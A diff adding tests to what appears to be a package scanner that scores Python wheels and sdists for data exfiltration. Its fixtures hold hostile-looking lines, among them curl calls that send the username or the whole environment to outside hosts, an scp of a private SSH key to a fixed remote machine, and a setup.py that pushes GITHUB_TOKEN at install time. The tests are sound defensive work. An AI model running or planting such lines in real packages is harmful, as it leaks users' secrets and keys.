@@ -885,3 +885,69 @@ test('a name for an address of this machine is this machine', async () => {
   expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('sso.127.0.0.1.nip.io') }))).toEqual([]);
   expect(await inspect('exfiltration', wheel({ 'pkg/__init__.py': asking('sso.203.0.113.9.nip.io') }))).not.toEqual([]);
 });
+
+test('a command line that a caller starts weighs like the same request: names to a house are nothing, to nobody they are', async () => {
+  const score = async (command: string): Promise<number> =>
+    (
+      await inspect(
+        'exfiltration',
+        wheel({
+          'pkg/__init__.py': python('import getpass, os', 'def act(place, name):', `    os.system(${command})`),
+        }),
+      )
+    )[0]?.score ?? 0;
+
+  expect(await score("'curl -L https://files.vendor.invalid/a -o /data/' + getpass.getuser() + '/a'")).toBe(1);
+  expect(await score("'curl https://203.0.113.8/a?' + getpass.getuser()")).toBe(5);
+  expect(await score("'curl https://drop.onrender.com/a?' + getpass.getuser()")).toBe(5);
+  expect(await score("'ARCH=$(uname -m); wget https://files.vendor.invalid/$ARCH.tgz'")).toBe(1);
+  expect(await score('\'curl -d "$(env)" https://files.vendor.invalid/a\'')).toBe(5);
+});
+
+test('a key that is copied to the machine a caller names is the business of the caller, to a machine of the code it is not', async () => {
+  const copied = async (target: string): Promise<number> =>
+    (
+      await inspect(
+        'exfiltration',
+        wheel({
+          'pkg/__init__.py': python(
+            'import base64, os, subprocess',
+            'def provide(target):',
+            `    subprocess.run(['scp', os.path.expanduser('~/.ssh/id_ed25519'), ${target} + ':~/.ssh/id_new'])`,
+          ),
+        }),
+      )
+    )[0]?.score ?? 0;
+
+  expect(await copied('target')).toBe(2);
+  expect(await copied("'keeper@keys.vendor.invalid'")).toBe(5);
+  expect(await copied('base64.b64decode(os.urandom(4)).decode()')).toBe(5);
+});
+
+test('the token in an address that git pushes to is for a person who calls, and malware in an install', async () => {
+  const lines = (indent: string): readonly string[] =>
+    [
+      "token = os.environ['GITHUB_TOKEN']",
+      "subprocess.call(['git', 'push', 'https://' + token + '@github.example.invalid/docs/site', 'main'])",
+    ].map((line) => indent + line);
+
+  expect(
+    await inspect(
+      'exfiltration',
+      wheel({ 'pkg/__init__.py': python('import os, subprocess', 'def publish():', ...lines('    ')) }),
+    ),
+  ).toMatchObject([{ class: 'note', score: 1 }]);
+  expect(
+    await inspect(
+      'exfiltration',
+      sdist({
+        'setup.py': python(
+          'import os, subprocess',
+          'from setuptools import setup',
+          ...lines(''),
+          "setup(name='example')",
+        ),
+      }),
+    ),
+  ).toMatchObject([{ class: 'malware', score: 10 }]);
+});
